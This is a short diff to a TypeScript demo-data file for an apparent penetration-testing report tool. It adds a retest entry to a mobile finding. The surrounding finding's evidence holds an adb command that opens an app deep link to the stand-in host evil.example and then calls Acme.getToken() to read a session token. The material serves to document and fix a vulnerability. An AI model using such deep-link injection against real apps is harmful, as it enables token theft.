@@ -37,6 +37,12 @@ export const acmeMobile: DemoEngagement = {
       evidence:
         '```text\nadb shell am start -d "acmeshop://open?url=https://evil.example/?acme.example"\n> Acme.getToken()\n"eyJhbGciOi…"\n```',
       references: ['https://mas.owasp.org/MASTG/tests/android/MASVS-PLATFORM/MASTG-TEST-0031/'],
+      retest: {
+        by: 'user@acme.example',
+        daysAgo: 6,
+        message: 'The host is compared exactly since version 3.8.1.',
+        question: 'The store still hands out 3.8.0 to our test devices. Can you send us the build of 3.8.1?',
+      },
       assets: [{ ...android, location: 'DeepLinkActivity' }],
     },
     {
